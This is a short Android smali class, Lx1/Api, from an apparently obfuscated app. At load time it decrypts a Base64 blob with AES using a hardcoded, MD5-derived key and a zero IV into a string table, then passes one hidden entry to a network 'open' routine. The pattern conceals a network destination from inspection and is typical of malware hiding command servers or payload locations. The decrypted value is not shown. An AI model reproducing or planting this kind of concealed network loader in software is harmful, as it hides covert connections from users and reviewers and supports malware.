.class public Lx1/Api;
.super Ljava/lang/Object;

.field private static final t:[Ljava/lang/String;
.method static constructor <clinit>()V
    .registers 8
    const-string v0, "YaDb6HazlOFw1aMR0mWq6YotIUCLI2Y6PwO7SRqEqqD4rClpHI+sFM7UfRrxnWUc"
    const/4 v1, 0x0
    invoke-static {v0, v1}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v0
    const-string v1, "MD5"
    invoke-static {v1}, Ljava/security/MessageDigest;->getInstance(Ljava/lang/String;)Ljava/security/MessageDigest;
    move-result-object v1
    const-string v2, "dexp-1"
    invoke-virtual {v2}, Ljava/lang/String;->getBytes()[B
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/security/MessageDigest;->update([B)V
    invoke-virtual {v1}, Ljava/security/MessageDigest;->digest()[B
    move-result-object v1
    new-instance v2, Ljavax/crypto/spec/SecretKeySpec;
    const-string v3, "AES"
    invoke-direct {v2, v1, v3}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
    const/16 v1, 0x10
    new-array v1, v1, [B
    new-instance v4, Ljavax/crypto/spec/IvParameterSpec;
    invoke-direct {v4, v1}, Ljavax/crypto/spec/IvParameterSpec;-><init>([B)V
    const-string v3, "AES/CBC/PKCS5Padding"
    invoke-static {v3}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v3
    const/4 v5, 0x2
    invoke-virtual {v3, v5, v2, v4}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;Ljava/security/spec/AlgorithmParameterSpec;)V
    invoke-virtual {v3, v0}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    const-string v0, "\n"
    invoke-virtual {v1, v0}, Ljava/lang/String;->split(Ljava/lang/String;)[Ljava/lang/String;
    move-result-object v0
    sput-object v0, Lx1/Api;->t:[Ljava/lang/String;
    return-void
.end method
.method public static load()V
    .registers 2
    sget-object v0, Lx1/Api;->t:[Ljava/lang/String;
    const/4 v1, 0x1
    aget-object v0, v0, v1
    invoke-static {v0}, Lx1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

